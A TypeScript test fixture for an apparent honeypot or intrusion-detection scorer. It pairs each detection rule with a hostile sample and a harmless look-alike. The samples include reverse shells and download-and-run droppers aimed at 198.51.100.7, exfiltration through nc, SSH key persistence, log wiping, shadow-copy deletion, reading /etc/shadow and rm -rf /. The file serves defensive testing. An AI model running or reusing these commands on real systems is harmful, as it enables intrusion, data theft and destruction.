/** For each rule what it holds for, and something like it that it must leave alone. */
import type { ScoreInput } from '../../../src/core/scorer.ts';
import { ask, bytes, command, draft, fileEvent, past, request } from './events.ts';

export const commandCases: Record<string, readonly [string, string]> = {
  download: ['cd /tmp; wget http://198.51.100.7/bins.sh', 'wget --version'],
  'download-and-run': ['curl -s http://198.51.100.7/x | sh', 'curl -s http://198.51.100.7/x | less'],
  dropper: [
    'cd /tmp; wget http://198.51.100.7/x86; chmod 777 x86; ./x86',
    'curl -fsSL https://get.example.com | sh',
  ],
  'shell-over-telnet-url': [
    'sh -i 2>&1 | curl -sN telnet://198.51.100.7:4444',
    'curl telnet://198.51.100.7:25',
  ],
  'connection-from-shell': ['echo x > /dev/tcp/198.51.100.7/80', 'ls /dev/tty1'],
  'tunnel-opened': [
    'ssh -R 2222:localhost:22 mara@198.51.100.7',
    'ssh -L 8080:localhost:80 mara@198.51.100.7',
  ],
  'journal-shortened': ['journalctl --vacuum-time=1s', 'journalctl -u nginx --since today'],
  'password-piped': ['echo root:Ab12Cd34 | chpasswd', 'grep root /etc/passwd'],
  'made-executable': ['chmod 777 bins.sh', 'chmod 644 notes.txt'],
  'run-from-scratch-folder': ['/tmp/.x1 &', 'ls /tmp'],
  'scanner-run': ['nmap -sS -p- 198.51.100.0/24', 'apt-get remove nmap'],
  'botnet-check': ['/bin/busybox MIRAI', '/bin/busybox ls'],
  'hex-echo': ["echo -ne '\\x7f\\x45\\x4c\\x46' > .s", "echo -e '\\x67\\x61'"],
  'reverse-shell': ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'ls /dev/tty'],
  'authorized-key': ['echo ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA >> ~/.ssh/authorized_keys', 'ls ~/.ssh'],
  'scheduled-job': ['echo "* * * * * /tmp/x" | crontab', 'crontab -l'],
  'startup-entry': ['echo /tmp/x >> /etc/rc.local', 'cat /etc/rc.local'],
  'account-change': ['echo "root:k3y" | chpasswd', 'getent passwd root'],
  'history-off': ['unset HISTFILE', 'echo $HOME'],
  'logs-wiped': ['rm -rf /var/log/wtmp', 'tail /var/log/syslog'],
  'defences-off': ['iptables -F', 'iptables -L'],
  miner: ['./xmrig -o stratum+tcp://pool.example:3333', 'ls mines'],
  'kills-others': ['pkill -9 kinsing2', 'ps -ef'],
  'encoded-command': ['echo aWQ= | base64 -d | sh', 'base64 -d notes.b64'],
  'windows-download-run': [
    'powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
    'kubectl completion powershell | Out-String | Invoke-Expression',
  ],
  'shadow-copies-deleted': ['vssadmin delete shadows /all /quiet', 'vssadmin list shadows'],
  'password-files': ['cat /etc/shadow', 'cat /etc/hosts'],
  destroys: ['rm -rf /', 'rm -rf build'],
  surroundings: ['cat /proc/cpuinfo', 'git status'],
  'shell-escape': ['find . -exec /bin/sh \\;', 'find . -name x'],
  'attack-tool': ['mimikatz sekurlsa', 'minikube start'],
  'protection-stopped': ['systemctl stop auditd', 'systemctl status auditd'],
  'kernel-module': ['insmod rootkit.ko', 'lsmod'],
  'rights-taken': ['chmod u+s /tmp/sh', 'chmod 644 a'],
  'data-sent-away': ['tar c /etc | nc 198.51.100.7 9000', 'tar c /etc'],
  'privileged-files-sought': ['find / -perm -4000', 'find / -name x'],
  'disguised-words': ['cat${IFS}/tmp/x', 'echo ""'],
  'machine-changed': ['userdel mara', 'id mara'],
  'listens-in': ['tcpdump -i eth0', 'ip link'],
  'machine-controls': ['shutdown -h now', 'uptime'],
  'history-read': ['cat ~/.bash_history', 'ls ~'],
  'script-with-socket': ["python3 -c 'import socket,pty; x()'", 'python3 -c "print(1)"'],
  'piped-to-shell': ['cat install | bash', 'cat install | wc -l'],
  'memory-written': ['dd if=patch of=/proc/71/mem', 'dd if=a of=b'],
  hypervisor: ['esxcli vm process list', 'vmstat 1'],
  'secret-scanner': ['trufflehog filesystem /srv', 'truncate -s 0 a'],
  'program-installed': ['apt-get install -y masqan', 'apt-get update'],
  'program-replaced': ['cat x > /usr/bin/login', 'cat x > /srv/login'],
  'files-served': ['python3 -m http.server 8000', 'python3 -m json.tool'],
};

interface TextCase {
  shape: 'web' | 'query' | 'bytes';
  yes: string;
  no: string;
}
const web = (yes: string, no: string): TextCase => ({ shape: 'web', yes, no });
const query = (yes: string, no: string): TextCase => ({ shape: 'query', yes, no });
const wire = (yes: string, no: string): TextCase => ({ shape: 'bytes', yes, no });
const stamp = 'Nov 25 08:00:01 gate sshd[71]: ';

export const textCases: Record<string, TextCase> = {
  'secret-files': web('GET /.env HTTP/1.1', 'GET /environment HTTP/1.1'),
  'admin-doors': web('GET /wp-login.php HTTP/1.1', 'GET /index.html HTTP/1.1'),
  'known-exploits': web('POST /goform/aspForm HTTP/1.1', 'GET /vendor/ HTTP/1.1'),
  'exploited-applications': web(
    'GET /a HTTP/1.1\r\nrouting-expression: T(java.lang.Math)',
    'POST /x HTTP/1.1\r\nHost: h\r\n\r\n__VIEWSTATE=%2FwEPDwUKMTIzNDU2Nzg5MGRk',
  ),
  'exploited-devices': web('GET /dana/html5acc/guacamole/a HTTP/1.1', 'GET /sdk/docs/language HTTP/1.1'),
  'prototype-pollution': web(
    '{"name":"mara","__proto__":{"role":"admin"}}',
    'What does __proto__ mean, and is "constructor" a property of its prototype?',
  ),
  'unsigned-token': web(
    'token=eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJ1c2VyIjoibWFyYSJ9.',
    'token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoibWFyYSJ9.c2lnbmVk',
  ),
  'interface-questioned': web(
    '{"query":"{__schema{types{name}}}"}',
    '{"query":"{ book(id: 4) { __typename title } }"}',
  ),
  'interface-batch': web(
    '[{"query":"mutation{login(p:\\"1\\"){t}}"},{"query":"mutation{login(p:\\"2\\"){t}}"},{"query":"mutation{login(p:\\"3\\"){t}}"}]',
    '[{"query":"{ book(id: 4) { title } }"},{"query":"{ book(id: 5) { title } }"},{"query":"{ me { name } }"}]',
  ),
  'web-shell': web('GET /c99.php HTTP/1.1', 'GET /about.php HTTP/1.1'),
  'file-put': web('PUT /x.jsp HTTP/1.1', 'PUT /remote.php/dav/notes.md HTTP/1.1'),
  'database-to-shell': query("select '<?php' into outfile '/var/www/x.php'", 'select 1'),
  'database-destroyed': query('DROP DATABASE shop', 'CREATE DATABASE shop'),
  'ransom-note': query(
    "insert into t values ('send 0.1 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa')",
    "insert into t values ('hello')",
  ),
  'redis-takeover': query('CONFIG SET dir /var/spool/cron', 'GET greeting'),
  'accounts-read': query('select user, password from mysql.user', 'select a from b'),
  'data-read': query('select * from customers', 'select now()'),
  'database-looked-at': query('SHOW DATABASES', 'SET NAMES utf8'),
  'tls-hello': wire('\\x16\\x03\\x01\\x00\\xa5', '\\x17\\x03'),
  'rdp-request': wire('Cookie: mstshash=Administr', 'Cookie: a=b'),
  'smb-negotiation': wire('\u00ffSMBr PC NETWORK PROGRAM 1.0', 'sombre'),
  'smb-exploit': wire('TRANS2 session setup', 'translate 2'),
  'industrial-control': wire('modbus read', 'model bus'),
  'sip-scan': wire('OPTIONS sip:100@203.0.113.1 SIP/2.0', 'OPTIONS please'),
  amplification: wire('monlist', 'month list'),
  'memory-cache': wire('stats\r\n', 'statistics'),
  'android-debug': wire('CNXN\u0000host::features', 'CNX'),
  'java-object': wire('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'rO0'),
  'java-remote': wire('JRMI\u0000\u0002K', 'JR'),
  'mining-protocol': wire('{"method":"mining.subscribe"}', '{"method":"ping"}'),
  'printer-language': wire('@PJL INFO ID', 'PJ'),
  'relay-test': wire('CONNECT mail.example.com:25 HTTP/1.1', 'CONNECTED'),
  'scanner-signature': wire('MGLNDD_203.0.113.1_22', 'hello'),
  'log-severe': wire(`${stamp}severity="high" something`, `${stamp}severity="low" something`),
  'log-attack': wire(`${stamp}possible exploit seen`, `${stamp}possible delay seen`),
  'log-many-failures': wire(
    `${stamp}error: maximum authentication attempts exceeded for root`,
    `${stamp}one attempt`,
  ),
  'log-failure': wire(
    `${stamp}Failed password for mara from 198.51.100.7`,
    `${stamp}Server listening on 0.0.0.0`,
  ),
  'log-root-failure': wire(
    `${stamp}Failed password for root from 198.51.100.7`,
    `${stamp}Failed password for mara`,
  ),
  'log-refused': wire(`${stamp}connection denied by policy`, `${stamp}connection allowed`),
  'log-protection-changed': wire(`${stamp}firewall configuration was saved`, `${stamp}weather was fine`),
  'log-account-changed': wire(`${stamp}new user: name=bob`, `${stamp}old user seen`),
  'log-administration': wire(`${stamp}session opened for user mara`, `${stamp}idle`),
  'log-no-identification': wire(`${stamp}Did not receive identification string`, `${stamp}identified`),
  'log-error': wire(`${stamp}error: no such file`, `${stamp}all is well today`),
};

const failedLogin = draft('login.failed', { extra: { username: 'mara', password: 'k' } });
const burst = past({ events: 40, failed_logins: 40, first_ms: Date.parse('2026-11-25T07:50:00.000Z') });
const hour = Date.parse('2026-11-25T07:10:00.000Z');

export const eventCases: Record<string, readonly [ScoreInput, ScoreInput]> = {
  'login-failed': [ask(failedLogin), ask(draft('login.succeeded'))],
  'brute-force': [ask(failedLogin, { history: burst }), ask(failedLogin)],
  'slow-brute-force': [
    ask(failedLogin, { days: past({ events: 11, failed_logins: 11 }) }),
    ask(failedLogin, { days: past({ events: 12, failed_logins: 12 }) }),
  ],
  'login-succeeded': [ask(draft('login.succeeded')), ask(failedLogin)],
  'guessed-credentials': [ask(draft('login.succeeded'), { history: burst }), ask(draft('login.succeeded'))],
  'default-credentials': [
    ask(draft('login.failed', { extra: { username: 'root', password: 'xc3511' } })),
    ask(failedLogin),
  ],
  'decoy-spoken-to': [ask(request('GET / HTTP/1.1')), ask(failedLogin)],
  'decoy-contact': [ask(draft('connection.opened')), ask(draft('connection.closed'))],
  'command-on-decoy': [ask(command('ls')), ask(command('ls', { service: 'admission' }))],
  'port-scan': [ask(draft('port.scanned')), ask(draft('connection.opened'))],
  'many-connections': [
    ask(draft('connection.opened'), { history: past({ events: 60, connections: 60, first_ms: hour }) }),
    ask(draft('connection.opened'), { history: past({ events: 4, connections: 4, first_ms: hour }) }),
  ],
  'many-requests': [
    ask(request('GET / HTTP/1.1'), { history: past({ events: 900, first_ms: hour }) }),
    ask(request('GET / HTTP/1.1'), { history: past({ events: 9, first_ms: hour }) }),
  ],
  tunnel: [ask(draft('tunnel.requested', { payload: 'mail.example:25' })), ask(draft('connection.opened'))],
  'relay-volume': [
    ask(draft('tunnel.requested', { payload: 'mail.example:25' }), {
      history: past({ events: 60, connections: 20 }),
    }),
    ask(draft('tunnel.requested', { payload: 'mail.example:25' })),
  ],
  fingerprinting: [ask(draft('decoy.fingerprinted')), ask(draft('connection.opened'))],
  'token-hit': [ask(draft('token.hit')), ask(draft('connection.opened'))],
  'file-transfer': [ask(draft('file.uploaded', { payload: 'x.bin' })), ask(draft('connection.opened'))],
  'decoy-file-touched': [ask(fileEvent('file.opened')), ask(draft('connection.opened'))],
  'decoy-severity': [
    ask(fileEvent('file.opened', { severity: 'HIGH' })),
    ask(fileEvent('file.opened', { severity: 'unheard' })),
  ],
  'decoy-credential': [
    ask(fileEvent('file.opened', {}, { is_credential: true })),
    ask(fileEvent('file.opened', {}, { is_credential: false })),
  ],
  'decoy-file-copied': [ask(fileEvent('file.copied', { action: 'COPIED' })), ask(fileEvent('file.opened'))],
  'decoy-file-destroyed': [
    ask(fileEvent('file.deleted', { action: 'DELETED' })),
    ask(fileEvent('file.opened')),
  ],
  'decoy-file-changed': [
    ask(fileEvent('file.changed', { action: 'MODIFIED' })),
    ask(fileEvent('file.opened')),
  ],
  'decoys-in-series': [
    ask(fileEvent('file.opened'), { history: past({ events: 4, honeytokens: 4 }) }),
    ask(fileEvent('file.opened')),
  ],
  'suspicious-process': [
    ask(fileEvent('file.opened', {}, { process_name: 'rclone.exe' })),
    ask(fileEvent('file.opened', {}, { process_name: 'winword.exe' })),
  ],
};

/** A few more, for tests that want something of everything. */
export const anyEvents: readonly ScoreInput[] = [
  ...Object.values(eventCases).flat(),
  ...Object.values(commandCases).flatMap((pair) => pair.map((text) => ask(command(text)))),
  ...Object.values(textCases).flatMap(({ shape, yes, no }) =>
    [yes, no].map((text) =>
      ask(
        shape === 'web'
          ? request(text)
          : shape === 'query'
            ? draft('payload.received', { service: 'mysql', payload: text })
            : bytes(text),
      ),
    ),
  ),
];
